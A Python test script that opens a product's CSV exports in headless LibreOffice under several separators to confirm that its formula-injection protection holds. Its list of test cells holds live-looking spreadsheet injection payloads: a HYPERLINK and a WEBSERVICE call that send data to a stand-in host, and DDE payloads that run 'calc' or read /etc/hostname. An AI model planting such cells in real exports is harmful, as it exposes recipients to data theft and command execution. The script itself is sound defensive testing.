"""`make office`: our exports in a real LibreOffice, cut at each sign a spreadsheet may cut a line at (T26).

    python -m tests.office [--cells 4000] [--seed 4]

Writes the cells as every export of the product does (`accounts.spreadsheet`), opens the file once for each
separator, and reads from what LibreOffice made of it which cells hold a formula, and which call somebody. A
file written without our protection goes the same way and must be caught. Ends with 1 where a formula came up,
or where the planted one did not.
"""

from __future__ import annotations

import argparse
import csv
import random
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterable, Sequence
from pathlib import Path

from lxml import etree

from accounts.spreadsheet import as_csv

SEPARATORS = {"comma": 44, "semicolon": 59, "tab": 9, "bar": 124}
UTF8 = 76
SECONDS = 180
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
WRITTEN = (
    "=1+1",
    " =1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "Bob,=1+1",
    "Bob;=1+1",
    "Bob\t=1+1",
    "Bob|=1+1",
    'Bob";=1+1',
    'Bob","=1+1',
    '"=1+1',
    "＝1+1",
    '=HYPERLINK("https://elsewhere.example/?"&A1;"Click")',
    '=WEBSERVICE("https://elsewhere.example/")',
    "=cmd|' /C calc'!A0",
    '=DDE("soffice";"/etc/hostname";"x")',
)
_SIGNS = " ab1=+-@;,|\t\r\n\"'＝＋－＠(A)"


def main() -> int:
    asked = _arguments()
    if shutil.which("soffice") is None:
        sys.stderr.write("LibreOffice is missing. As root: apt-get install libreoffice-calc\n")
        return 2
    chance = random.Random(asked.seed)
    made = ["".join(chance.choices(_SIGNS, k=chance.randint(1, 16))) for _ in range(asked.cells)]
    cells = [*WRITTEN, *made]
    rows: list[tuple[object, ...]] = [
        ("Row", "Value", "Why"),
        *((n, cell, "x") for n, cell in enumerate(cells, 1)),
    ]
    with tempfile.TemporaryDirectory(prefix="outreach-office-") as folder:
        ours, bare = Path(folder, "ours.csv"), Path(folder, "bare.csv")
        ours.write_bytes(b"".join(as_csv(rows)))
        _bare(bare, rows)
        found = {name: formulas(ours, separator=code) for name, code in SEPARATORS.items()}
        planted = {name: formulas(bare, separator=code) for name, code in SEPARATORS.items()}
    for name in SEPARATORS:
        ran, bare_ran = len(found[name]), len(planted[name])
        sys.stdout.write(f"{name:>9}: {len(cells):,} cells, formulas {ran}; unprotected {bare_ran:,}\n")
    for formula in sorted({one for several in found.values() for one in several})[:20]:
        sys.stdout.write(f"  ran: {formula!r}\n")
    return 0 if not any(found.values()) and all(planted.values()) else 1


def formulas(path: Path, *, separator: int) -> list[str]:
    """What LibreOffice takes for a formula in this CSV file, as it writes them down."""
    with tempfile.TemporaryDirectory(prefix="outreach-office-") as folder:
        subprocess.run(
            [
                "soffice",
                f"-env:UserInstallation=file://{folder}/profile",
                "--headless",
                f"--infilter=CSV:{separator},34,{UTF8},1",
                "--convert-to",
                "fods",
                "--outdir",
                folder,
                str(path),
            ],
            check=True,
            capture_output=True,
            timeout=SECONDS,
        )
        tree = etree.parse(str(Path(folder, path.stem + ".fods")), etree.XMLParser(huge_tree=True))
        return [
            str(one.get(f"{TABLE}formula"))
            for one in tree.iter(f"{TABLE}table-cell")
            if one.get(f"{TABLE}formula")
        ]


def _bare(path: Path, rows: Iterable[Sequence[object]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(rows)


def _arguments() -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="python -m tests.office")
    parser.add_argument("--cells", type=int, default=4000)
    parser.add_argument("--seed", type=int, default=4)
    return parser.parse_args()


if __name__ == "__main__":
    sys.exit(main())
